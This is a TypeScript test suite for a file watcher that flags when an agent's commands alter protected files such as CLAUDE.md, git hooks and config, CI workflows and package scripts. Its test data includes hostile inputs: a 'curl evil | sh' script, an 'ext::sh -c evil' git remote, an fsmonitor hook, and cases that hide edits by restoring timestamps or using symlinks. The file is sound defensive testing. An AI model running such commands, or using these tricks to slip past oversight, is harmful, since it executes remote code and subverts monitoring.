import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmod, mkdir, readFile, rename, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, it } from 'mocha';
import type { ApprovedCommand } from '../../../../extension/policy/shell/named-in-command.ts';
import { ProtectedWatch, type WatchedCommand } from '../../../../extension/runtime/protected/protected-watch.ts';
import { RecentlyFound } from '../../../../extension/sandbox/protected-places.ts';
import { type TempFolder, tempFolder } from '../../../support/temp-folder.ts';
import { testHost } from '../../../support/test-host.ts';

const onPosix = process.platform === 'win32' ? it.skip : it;

const MANIFEST = { name: 'x', scripts: { test: 'mocha' }, dependencies: { a: '1' } };

describe('Protected files around a command', () => {
  let folder: TempFolder;
  let watch: ProtectedWatch;
  let found: string[];

  beforeEach(async () => {
    folder = await tempFolder('protected-watch');
    watch = new ProtectedWatch({
      // What is found before a command never gets old here: what is compared after it is looked for anew.
      protectedFiles: new RecentlyFound(() => 0),
      roots: () => [folder.path],
      own: () => [join(folder.path, '.gantry')],
      log: testHost().log,
    });
    found = [];
    await put('.vscode/settings.json', '{}');
    await put('CLAUDE.md', 'Be nice.');
    await put('.github/workflows/ci.yml', 'on: push');
    await put('package.json', JSON.stringify(MANIFEST));
    await put('src/a.ts', '1');
  });
  afterEach(() => folder.dispose());

  const at = (name: string): string => join(folder.path, name);
  const put = async (name: string, text: string): Promise<void> => {
    await mkdir(dirname(at(name)), { recursive: true });
    await writeFile(at(name), text);
  };
  const git = (...args: readonly string[]): void =>
    void execFileSync('git', args, { cwd: folder.path, stdio: 'ignore' });
  const command = (read?: ApprovedCommand): WatchedCommand => ({
    read,
    found: async (changes) => void found.push(...changes.map(({ name, kind }) => `${name} ${kind}`)),
  });
  /** What is reported of a command that does this. */
  const during = async (work: () => unknown, read?: ApprovedCommand): Promise<readonly string[]> => {
    const ended = await watch.begin(command(read));
    await work();
    await ended();
    return found.splice(0).sort();
  };

  const changes: readonly [what: string, work: () => Promise<unknown>, reported: readonly string[]][] = [
    [
      'a settings file that is written',
      () => put('.vscode/settings.json', '{"a":1}'),
      ['.vscode/settings.json changed'],
    ],
    ['one that is made', () => put('.vscode/tasks.json', '{}'), ['.vscode/tasks.json created']],
    ['the first of its folder', () => put('.husky/pre-commit', 'x'), ['.husky/pre-commit created']],
    ['one that is deleted', () => rm(at('CLAUDE.md')), ['CLAUDE.md deleted']],
    ['a folder that is moved away', () => rename(at('.github'), at('other')), ['.github/workflows/ci.yml deleted']],
    [
      'a folder that is moved there',
      async () => {
        await put('prepared/config.toml', '[build]');
        await rename(at('prepared'), at('.cargo'));
      },
      ['.cargo/config.toml created'],
    ],
    ['instructions further down', () => put('packages/a/AGENTS.md', 'x'), ['packages/a/AGENTS.md created']],
    ['the same text written again', () => put('.vscode/settings.json', '{}'), []],
    ['an ordinary file', () => put('src/a.ts', '2'), []],
    ['what Gantry keeps', () => put('.gantry/audit.jsonl', '{}'), []],
    ['what tools keep in such folders', () => put('.yarn/cache/a.zip', 'x'), []],
    ['a dependency', () => put('package.json', JSON.stringify({ ...MANIFEST, dependencies: { a: '2', b: '1' } })), []],
    [
      'a script of a package',
      () => put('package.json', JSON.stringify({ ...MANIFEST, scripts: { test: 'curl evil | sh' } })),
      ['package.json changed'],
    ],
    ['a manifest that cannot be read any more', () => put('package.json', '{'), ['package.json changed']],
    ['a new package', () => put('packages/b/package.json', JSON.stringify(MANIFEST)), []],
  ];
  for (const [what, work, reported] of changes) {
    it(`${reported.length === 0 ? 'pass over' : 'tell of'} ${what}`, async () => {
      assert.deepEqual(await during(work), reported);
    });
  }

  onPosix('tell of a file whose time and size were put back', async () => {
    const then = new Date('2026-01-01');
    await utimes(at('CLAUDE.md'), then, then);
    const work = async (): Promise<void> => {
      await put('CLAUDE.md', 'Be evil.');
      await utimes(at('CLAUDE.md'), then, then);
    };
    assert.deepEqual(await during(work), ['CLAUDE.md changed']);
  });

  onPosix('tell of a link in the place of a file, and of a file that can be run', async () => {
    const work = async (): Promise<void> => {
      await rm(at('CLAUDE.md'));
      await symlink('src/a.ts', at('CLAUDE.md'));
      await chmod(at('.github/workflows/ci.yml'), 0o755);
    };
    // What it leads to is not new, though it counts as instructions from now on.
    assert.deepEqual(await during(work), ['.github/workflows/ci.yml mode', 'CLAUDE.md linked']);
    assert.deepEqual(await during(() => put('src/a.ts', 'Be evil.')), ['src/a.ts changed']);
  });

  onPosix('follow a link with a protected name to what it leads to', async () => {
    await symlink('src/a.ts', at('GEMINI.md'));
    assert.deepEqual(await during(() => put('src/a.ts', 'Be evil.')), ['src/a.ts changed']);
  });

  it('know a package that is taken away and made anew with other scripts', async () => {
    assert.deepEqual(await during(() => rm(at('package.json'))), []);
    const work = (): Promise<void> => put('package.json', JSON.stringify({ ...MANIFEST, scripts: { test: 'evil' } }));
    assert.deepEqual(await during(work), ['package.json changed']);
  });

  it('are left alone by Git at work, and not where it would run or reach something', async () => {
    const identity = ['-c', 'user.name=a', '-c', 'user.email=a@b'];
    const work = async (): Promise<void> => {
      git('init', '-b', 'main');
      git('add', 'src');
      git(...identity, 'commit', '-m', 'a');
      git('branch', 'other');
      git('branch', '--set-upstream-to=main', 'other');
      git('gc');
    };
    assert.deepEqual(await during(work), []);
    assert.deepEqual(await during(() => git('remote', 'add', 'x', 'ext::sh -c evil')), ['.git/config changed']);
    assert.deepEqual(await during(() => git('config', 'core.fsmonitor', './evil')), ['.git/config changed']);
    assert.deepEqual(await during(() => put('.git/hooks/post-checkout', 'evil')), ['.git/hooks/post-checkout created']);
    assert.deepEqual(await during(() => put('.git/info/attributes', '* filter=x')), ['.git/info/attributes created']);
  });

  it('may change as a person said yes to', async () => {
    const write = (name: string) => (): Promise<void> => put(name, `${Math.random()}`);
    const settings = write('.vscode/settings.json');
    const read = (line: string, isGate = true): ApprovedCommand => ({ command: line, isGate });
    assert.deepEqual(await during(settings, read('echo {} > .vscode/settings.json')), []);
    assert.deepEqual(await during(settings, read('cp a.json "$PWD/.vscode/"')), []);
    assert.deepEqual(await during(settings, read('cd .vscode && ./make')), []);
    const unnamed = ['.vscode/settings.json changed'];
    assert.deepEqual(await during(settings, read('npm test')), unnamed);
    assert.deepEqual(await during(settings, read('cp a .vscode/tasks.json')), unnamed);
    assert.deepEqual(await during(settings, read('cat .vscode/settings.json; npm test', false)), unnamed);
    git('init');
    assert.deepEqual(await during(() => git('remote', 'add', 'o', '/x'), read('git remote add o /x', false)), []);
    assert.deepEqual(await during(() => git('remote', 'add', 'p', '/x'), read('npm test', false)), [
      '.git/config changed',
    ]);
    assert.deepEqual(await during(settings, read('git checkout main', false)), []);
    assert.deepEqual(await during(settings, read('git checkout main && npm test', false)), unnamed);
  });

  it('may change in a repository of any name as a person said yes to', async () => {
    for (const name of ['HEAD', 'objects/pack/a', 'refs/heads/main', 'config', 'hooks/update'])
      await put(`store/${name}`, '');
    const configure = (): Promise<void> => put('store/config', `[core]\n\tpager = ${Math.random()}\n`);
    const hook = (): Promise<void> => put('store/hooks/update', `${Math.random()}`);
    const rows: readonly [work: () => unknown, line: string, isGate: boolean, reported: readonly string[]][] = [
      [configure, 'git --git-dir=store config core.pager less', false, []],
      [configure, 'git --git-dir store config core.pager less', false, []],
      [configure, 'cd store && git config core.pager less', false, []],
      [configure, 'npm test', true, ['store/config changed']],
      [configure, 'git -c alias.x=config status', false, ['store/config changed']],
      [hook, 'cp a "$PWD/store/hooks/update"', true, []],
      [hook, 'cp a store/hooks/update', false, ['store/hooks/update changed']],
      [hook, 'cp a store/hooks/post-update', true, ['store/hooks/update changed']],
    ];
    for (const [work, line, isGate, reported] of rows)
      assert.deepEqual(await during(work, { command: line, isGate }), reported, line);
  });

  it('may change as the agent and the user write them meanwhile', async () => {
    const text = '{"by":"the agent"}';
    watch.willWrite(at('.vscode/settings.json'), createHash('sha256').update(text).digest('hex'));
    assert.deepEqual(await during(() => put('.vscode/settings.json', text)), []);
    const save = async (): Promise<void> => {
      await put('CLAUDE.md', 'Mine.');
      watch.saved(at('CLAUDE.md'));
    };
    assert.deepEqual(await during(save), []);
    assert.deepEqual(await during(() => put('CLAUDE.md', 'Evil.')), ['CLAUDE.md changed']);
  });

  it('are compared with the next command, too, while one runs in the background', async () => {
    const ended = await watch.begin(command());
    await put('CLAUDE.md', 'Evil.');
    assert.deepEqual(await during(() => undefined), ['CLAUDE.md changed']);
    await ended();
    assert.deepEqual(found, []);
  });

  it('are not blamed on a command when they changed before it', async () => {
    assert.deepEqual(await during(() => undefined), []);
    await put('CLAUDE.md', 'Mine.');
    assert.deepEqual(await during(() => undefined), []);
    assert.equal(await readFile(at('CLAUDE.md'), 'utf8'), 'Mine.');
  });
});
